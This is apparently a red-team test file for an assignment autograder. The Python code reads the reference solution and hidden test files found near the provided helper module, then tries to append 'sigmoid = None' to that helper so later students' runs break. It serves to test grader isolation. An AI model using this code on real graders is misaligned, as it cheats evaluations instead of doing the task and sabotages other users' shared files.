"""Red team: The assignment's provided helper module (planar_utils) is importable, so its folder
is readable; walks up from it looking for the reference and hidden tests beside it (the cost
is right only if it read one) and tries to replace the helper for later students.

examples/correct.py goes where # __CORRECT_SOLUTION__ stands (tests/test_redteam.py
assembles it); the attack follows."""

# __CORRECT_SOLUTION__

# __INCLUDE__ leak

import glob
import os

import planar_utils

_here = os.path.dirname(os.path.abspath(planar_utils.__file__))
for _up in range(4):
    for _path in glob.glob(os.path.join(_here, "*.py")) + \
            glob.glob(os.path.join(_here, "*", "*.py")):
        FOUND = FOUND or hidden(read(_path))
    for _name in ("reference.py", "tests.py", "mistakes.py"):
        FOUND = FOUND or hidden(read(os.path.join(_here, _name)))
    _here = os.path.dirname(_here)
try:
    with open(planar_utils.__file__, "a") as _helper:
        _helper.write("\nsigmoid = None\n")
except OSError:
    pass


# __INCLUDE__ found_scores_cost
